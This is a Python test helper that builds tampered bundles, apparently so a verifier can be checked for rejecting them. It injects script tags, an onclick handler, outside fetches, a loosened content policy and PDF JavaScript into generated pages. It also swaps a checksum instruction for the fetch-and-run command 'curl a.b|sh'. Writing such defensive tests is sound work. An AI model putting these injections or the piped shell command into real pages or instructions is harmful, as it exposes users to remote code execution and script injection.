"""Bundles whose own signer put other pages in than the program writes, for ``make.py``."""

from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager
from dataclasses import replace
from unittest import mock

from storage.bundle import plan, sheet, sheet_pdf
from storage.bundle.contents import BundleContents
from tests.storage.bundle.samples import made


def pages(given: BundleContents) -> Iterator[tuple[str, dict[str, str], bytes]]:
    """Yield bundles whose own signer put other pages in than the program writes."""
    html, pdf, text = "README.en.html", "README.en.pdf", "VERIFY.txt"
    for name, path, about, change in (
        ("script", html, "a script in the sheet", _put(b"</ul>", b"<script>1</script></ul>")),
        ("outside", html, "a picture from outside", _put(b"<h1>", b'<img src="//a.b"><h1>')),
        ("link", html, "a link that leads out", _put(b'href="VERIFY.txt"', b'href="//a.example"')),
        ("handler", html, "what runs on a click", _put(b"<h1>", b'<h1 onclick="x()">')),
        ("policy", html, "no policy against it", _put(b"default-src 'none'", b"default-src *")),
        ("style", html, "a style that fetches", _put(b"</style>", b"p{src:url(//a)}</style>")),
        ("action", pdf, "a PDF that does something", _put(b"/Lang ", b"/JS (x) /Lang ")),
        ("commands", text, "other commands to paste", _put(b"sha256sum", b"curl a.b|sh")),
    ):  # fmt: skip
        with _instead(path, change):
            data = made(replace(given, pdf=path == pdf))[0]
        yield f"pages-{name}", {"expect": "pages", "part": path, "about": about}, data


def _put(old: bytes, new: bytes) -> Callable[[bytes], bytes]:
    def change(content: bytes) -> bytes:
        if old not in content:
            raise ValueError("nothing to change")
        return content.replace(old, new, 1)

    return change


def _instead(path: str, change: Callable[[bytes], bytes]) -> AbstractContextManager[object]:
    """Have the program write another page than its own."""
    module, name = {
        "README.en.html": (sheet, "sheet"),
        "README.en.pdf": (sheet_pdf, "sheet_pdf"),
        "VERIFY.txt": (plan, "instructions"),
    }[path]
    own = getattr(module, name)
    return mock.patch.object(module, name, lambda *given, **more: change(own(*given, **more)))
